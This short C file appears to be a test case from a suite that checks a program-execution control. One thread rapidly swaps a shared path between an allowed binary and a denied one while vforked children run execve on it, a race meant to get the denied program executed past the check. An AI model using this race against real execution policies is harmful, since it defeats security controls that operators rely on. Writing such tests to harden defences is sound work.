/* A thread flips the path between an allowed and the denied program while vforked children start it. */
// aims: marks
// control: harms
// seconds: 8
#include "attack.h"

static char path[4096];
static volatile int over;

static void *flip(void *fine) {
  while (!over) {
    strcpy(path, fine);
    for (volatile int wait = 0; wait < 3000; wait++);
    strcpy(path, target("SWIFT"));
    for (volatile int wait = 0; wait < 3000; wait++);
  }
  return 0;
}

int main(void) {
  pthread_t thread;
  char *words[] = {"true", 0};
  strcpy(path, "/bin/true");
  pthread_create(&thread, 0, flip, "/bin/true");
  tried();
  for (int count = 0; count < 150; count++) {
    int child = vfork();
    if (!child) {
      close(2);
      execve(path, words, environ);
      _exit(1);
    }
    waitpid(child, 0, 0);
  }
  over = 1;
  return 0;
}
